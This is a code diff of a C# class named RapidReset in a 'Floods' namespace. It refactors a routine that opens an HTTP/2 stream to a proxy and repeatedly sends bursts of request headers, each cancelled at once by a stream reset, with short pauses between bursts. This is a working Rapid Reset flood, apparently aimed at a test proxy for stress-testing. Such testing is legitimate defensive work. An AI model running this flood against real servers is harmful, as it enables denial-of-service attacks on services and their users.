@@ -1,6 +1,5 @@
 using System.Buffers.Binary;
 using System.Net.Security;
-using System.Net.Sockets;
 using System.Text;
 
 namespace Floods;
@@ -12,32 +11,32 @@ internal static class RapidReset
 
     private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(20);
 
-    public static async Task RunAsync(Uri proxy, Trust trust, string key, Action began)
-    {
-        using var client = new TcpClient();
-        await using var stream = await Slow.OpenAsync(client, proxy, trust, SslApplicationProtocol.Http2);
-        await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
-        await stream.WriteAsync(Frame(type: 4, flags: 0, 0, []));
-        byte[] headers =
-        [
-            .. Field(":method", "GET"), .. Field(":scheme", "https"), .. Field(":authority", "proxy.test"), .. Field(":path", "/bench/v1"),
-            .. Field("aiaccess-token", key),
-        ];
-        began();
-        var answers = stream.CopyToAsync(Stream.Null);
-        for (var next = 1; !answers.IsCompleted && next < int.MaxValue - 2 * Burst;)
+    public static Task RunAsync(Uri proxy, Trust trust, string key, Counters counters, Action began) =>
+        Slow.OpenAsync(proxy, trust, SslApplicationProtocol.Http2, counters, async stream =>
         {
-            var burst = new List<byte>();
-            for (var i = 0; i < Burst; i++, next += 2)
+            await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
+            await stream.WriteAsync(Frame(type: 4, flags: 0, 0, []));
+            byte[] headers =
+            [
+                .. Field(":method", "GET"), .. Field(":scheme", "https"), .. Field(":authority", "proxy.test"), .. Field(":path", "/bench/v1"),
+                .. Field("aiaccess-token", key),
+            ];
+            began();
+            var answers = stream.CopyToAsync(Stream.Null);
+            for (var next = 1; !answers.IsCompleted && next < int.MaxValue - 2 * Burst;)
             {
-                burst.AddRange(Frame(type: 1, flags: 5, next, headers));
-                burst.AddRange(Frame(type: 3, flags: 0, next, [0, 0, 0, 8]));
-            }
+                var burst = new List<byte>();
+                for (var i = 0; i < Burst; i++, next += 2)
+                {
+                    burst.AddRange(Frame(type: 1, flags: 5, next, headers));
+                    burst.AddRange(Frame(type: 3, flags: 0, next, [0, 0, 0, 8]));
+                }
 
-            await stream.WriteAsync(burst.ToArray());
-            await Task.Delay(Pause, TimeProvider.System);
-        }
-    }
+                await stream.WriteAsync(burst.ToArray());
+                counters.Sent(Burst);
+                await Task.Delay(Pause, TimeProvider.System);
+            }
+        });
 
     private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
     {
